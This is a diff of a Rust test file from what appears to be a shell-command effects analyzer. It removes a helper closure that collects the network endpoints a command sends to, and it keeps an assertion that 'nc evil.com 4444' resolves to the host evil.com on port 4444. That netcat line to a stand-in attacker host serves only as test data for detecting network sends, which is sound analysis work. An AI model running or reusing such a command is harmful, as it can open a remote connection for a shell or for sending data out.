@@ -189,16 +189,6 @@ fn connections_and_remote_copies_send_to_their_host() {
         ),
     ]);
     // Without a URL, the endpoint is the host (and port) parsed.
-    let endpoints = |line: &str| -> Vec<Option<crate::effects::Endpoint>> {
-        effects(line)
-            .list
-            .into_iter()
-            .filter_map(|e| match e.what {
-                What::Send(s) => Some(s.endpoint),
-                _ => None,
-            })
-            .collect()
-    };
     assert_eq!(
         endpoints("nc evil.com 4444"),
         vec![crate::effects::url::parse("evil.com:4444")]
